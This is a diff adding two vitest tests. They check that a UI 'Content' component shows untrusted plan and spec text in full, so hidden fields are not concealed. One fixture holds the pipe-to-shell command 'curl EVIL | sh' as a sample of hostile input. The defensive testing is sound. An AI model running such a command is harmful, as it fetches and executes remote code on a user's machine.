@@ -4,6 +4,7 @@ import { expect, test, vi } from "vitest";
 import { client } from "../src/data";
 import { hasHidden } from "../src/hidden";
 import type { Run } from "../src/http";
+import { Content } from "../src/ui/Evidence";
 import { Family } from "../src/ui/Family";
 import { Notes } from "../src/ui/Notes";
 import { Words } from "../src/ui/bits";
@@ -42,4 +43,15 @@ test("notes and tasks of a run mark what strangers wrote", () => {
   const text = drawn(<><Notes run={run} /><Family run={run} /></>);
   expect(text.split("\\u{202e}").length).toBeGreaterThan(12);
   expect(hasHidden(text)).toBe(false);
+});
+test("a plan of tasks is shown whole: ids, checks, and what each belongs to", () => {
+  const task = { id: "a", title: "One", description: "line\nEVIL", parent: "EVIL-parent", checks: [{ name: "unit", command: "curl EVIL | sh" }] };
+  const text = drawn(<Content kind="plan" content={JSON.stringify({ summary: "All", tasks: [task] })} drawings={[]} title="" />);
+  for (const shown of ["line\nEVIL", "EVIL-parent", "curl EVIL | sh"]) expect(text).toContain(shown);
+});
+test("a cut label and the words beside a fence are below the drawing", () => {
+  const long = `keep ${"x".repeat(60)} EVIL`;
+  const text = drawn(<Content kind="spec" content={`\`\`\`mermaid EVIL words\nflowchart TD\n  A[${long}] --> B[b]\n\`\`\``} drawings={[]} title="" />);
+  expect(text.split('class="undrawn"')[1]).toContain(long);
+  expect(text.split('class="undrawn"')[1]).toContain("EVIL words");
 });
